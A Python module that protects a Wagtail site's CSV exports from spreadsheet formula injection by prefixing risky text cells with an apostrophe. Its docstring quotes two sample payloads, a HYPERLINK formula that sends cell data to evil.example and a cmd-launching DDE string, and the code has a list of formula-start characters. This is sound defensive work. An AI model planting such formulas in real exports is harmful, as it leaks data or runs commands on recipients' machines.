"""CSV files that are safe to open in a spreadsheet. Every CSV the product writes goes through
this module.

A spreadsheet reads a cell that starts with `=`, `+`, `-` or `@` (or with a tab or carriage
return before one) as a formula: a guide titled `=HYPERLINK("https://evil.example/?"&A2,"Open")`
would run in the lead's spreadsheet when the freshness report is opened. So, as OWASP's CSV
injection rule says, such a text cell is written with a leading apostrophe (`'=HYPERLINK(...)`),
which spreadsheets show as text.

Real numbers (int, float, Decimal) are written as they are: `-3.5` can hold no formula, and a
column of them must still add up. Text is prefixed even when it looks like a number (the text
`-3.5` becomes `'-3.5`): telling a harmless number-like text from `-1+cmd|' /C calc'!A0` is how
such rules get broken, and the product writes its numbers as numbers.

- `writer()` and `DictWriter` are `csv.writer` and `csv.DictWriter` with every cell made safe;
  product code uses them instead of the csv module's.
- `protect_spreadsheet_exports()` (called once at start-up) makes Wagtail's
  `SpreadsheetExportMixin` write its CSV through `DictWriter`. That mixin is behind every CSV
  export in the admin and the site: the team board, our reports (receipts, freshness,
  promotions, search queries) and Wagtail's own (site history, aging pages, locked pages,
  workflows, redirects, form submissions).

XLSX exports are left as Wagtail writes them: it stores every cell that openpyxl would take for
a formula as text.
"""

import csv

from wagtail.admin.views.mixins import Echo, SpreadsheetExportMixin

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """`value`, or for text that a spreadsheet would run as a formula, that text after `'`."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class _SafeWriter:
    """A csv writer whose rows are made safe cell by cell."""

    def __init__(self, writer):
        self._writer = writer
        self.dialect = writer.dialect

    def writerow(self, row):
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def writer(file, *args, **kwargs):
    """`csv.writer(file, ...)` that writes formula-like text as text."""
    return _SafeWriter(csv.writer(file, *args, **kwargs))


class DictWriter(csv.DictWriter):
    """`csv.DictWriter` that writes formula-like text as text (the header row too)."""

    def __init__(self, file, fieldnames, *args, **kwargs):
        super().__init__(file, fieldnames, *args, **kwargs)
        self.writer = _SafeWriter(self.writer)


def stream_csv(self, queryset):
    """`SpreadsheetExportMixin.stream_csv` writing through `DictWriter`: the header, then one
    line per item, each as the bytes a StreamingHttpResponse sends."""
    csv_writer = DictWriter(Echo(), fieldnames=self.list_export)
    yield csv_writer.writerow(
        {field: self.get_heading(queryset, field) for field in self.list_export}
    )
    for item in queryset:
        yield self.write_csv_row(csv_writer, self.to_row_dict(item))


def protect_spreadsheet_exports():
    """Make every Wagtail spreadsheet export write its CSV through `DictWriter`."""
    SpreadsheetExportMixin.stream_csv = stream_csv
